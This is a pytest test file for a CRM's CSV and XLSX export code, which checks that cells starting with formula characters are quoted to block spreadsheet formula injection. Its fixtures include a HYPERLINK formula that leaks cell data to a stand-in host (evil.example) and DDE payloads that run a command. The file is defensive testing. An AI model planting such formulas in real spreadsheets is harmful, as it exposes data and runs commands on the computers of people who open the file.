"""Exports never hand a spreadsheet program a formula (issue 29, hole 2): text starting with =, +,
-, @, tab or CR gets a leading quote in CSV, XLSX cells are always text; ``--raw`` writes values as
stored."""

from __future__ import annotations

import csv

import pytest

from crmcore.domain.spreadsheet import safe_cell
from crmcore.testing import make_customer

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"open")'
DDE = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "value, written",
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1250000", "-1250000"),  # a refund stays a number
        (
            "+989121234567; +982188888888",
            "+989121234567; +982188888888",
        ),  # phones stay readable by import
        ("مریم = رضایی", "مریم = رضایی"),
        (1250000, 1250000),
        (None, None),
    ],
)
def test_cells_a_spreadsheet_would_run_are_quoted(value, written):
    assert safe_cell(value) == written
    assert safe_cell(value, raw=True) == value


def hostile_customer(app) -> int:
    return make_customer(
        app,
        HYPERLINK,
        phones=["09121234567", "02188888888"],
        city=DDE,
        address="@SUM(1+1)",
        tags=["-1+cmd-x"],
    )


def read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_the_csv_export_quotes_formulas_unless_raw(crm_app, crm_cli, tmp_path):
    hostile_customer(crm_app)
    out = tmp_path / "out.csv"
    assert crm_cli("customers", "export", str(out)).exit_code == 0
    [row] = read_csv(out)
    assert (row["name"], row["city"], row["address"], row["tags"]) == (
        "'" + HYPERLINK,
        "'" + DDE,
        "'@SUM(1+1)",
        "'-1+cmd-x",
    )
    assert row["phones"] == "+989121234567; +982188888888"
    raw = tmp_path / "raw.csv"
    assert crm_cli("customers", "export", str(raw), "--raw").exit_code == 0
    [row] = read_csv(raw)
    assert (row["name"], row["city"]) == (HYPERLINK, DDE)
    assert "must not be opened" in crm_cli("customers", "export", "--help").stdout


@pytest.mark.parametrize("raw", [False, True])
def test_the_xlsx_export_writes_text_cells_never_formulas(crm_app, crm_cli, tmp_path, raw):
    import openpyxl

    hostile_customer(crm_app)
    out = tmp_path / "out.xlsx"
    assert crm_cli("customers", "export", str(out), *(["--raw"] if raw else [])).exit_code == 0
    sheet = openpyxl.load_workbook(out).active  # not data_only: formulas would show as type "f"
    rows = list(sheet.iter_rows())
    assert {c.data_type for row in rows for c in row if c.value is not None} == {"s"}
    header = [c.value for c in rows[0]]
    name = rows[1][header.index("name")].value
    assert name == (HYPERLINK if raw else "'" + HYPERLINK)


def test_the_report_csv_of_the_cli_quotes_formulas(crm_app, crm_cli, tmp_path):
    from crmcore.reports import write_csv

    result = {"columns": ["title", "amount"], "rows": [[HYPERLINK, "-500"]], "totals": {"@x": 1}}
    out = tmp_path / "r.csv"
    with open(out, "w", newline="", encoding="utf-8") as fh:
        write_csv(fh, result)
    assert list(csv.reader(open(out, encoding="utf-8"))) == [
        ["title", "amount"],
        ["'" + HYPERLINK, "-500"],
        [],
        ["'@x", "1"],
    ]
    assert "spreadsheet" in crm_cli("reports", "run", "--help").stdout
